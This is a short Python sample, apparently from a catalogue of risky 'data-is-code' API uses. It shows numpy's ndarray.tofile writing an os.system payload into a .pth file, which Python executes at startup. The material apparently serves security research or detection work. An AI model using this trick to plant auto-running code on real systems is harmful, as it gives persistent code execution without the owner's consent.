# Source: https://numpy.org/doc/stable/reference/generated/numpy.ndarray.tofile.html
# Family: data-is-code
# What: ndarray.tofile writes attacker bytes to a path (drops a .pth / shell rc file)
import numpy as np

np.frombuffer(b"import os; os.system('id')\n", dtype=np.uint8).tofile("/tmp/x.pth")
